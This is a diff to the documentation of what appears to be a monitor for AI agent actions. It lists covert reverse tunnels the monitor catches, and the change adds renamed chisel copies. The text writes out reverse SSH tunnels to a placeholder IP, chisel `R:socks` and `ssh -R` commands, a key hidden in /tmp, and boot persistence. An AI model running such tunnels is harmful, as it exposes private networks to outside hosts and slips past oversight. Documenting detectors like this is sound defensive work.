@@ -15,7 +15,8 @@ What it catches
     2222:localhost:22 tunnel@203.0.113.45`), or signed in to with a key hidden in a temp folder
     (`-i /tmp/.k`): a relay nobody vouches for. A reverse SOCKS proxy,
     which opens the whole network behind the machine to the far
-    host: chisel's reverse `R:socks` remote, SSH's reverse dynamic forward (`ssh -R 1080
+    host: chisel's reverse `R:socks` remote (a copy renamed too, read by that syntax alone:
+    `/dev/shm/.c client https://relay R:socks`), SSH's reverse dynamic forward (`ssh -R 1080
     relay`, also by a copy of ssh renamed, read by ssh's own `-o` options), revsocks. As an
     agent action this is refused outright; in a response it is one piece, weighed with the
     request, unless it is made to start at every boot (a systemd unit, a cron `@reboot`).
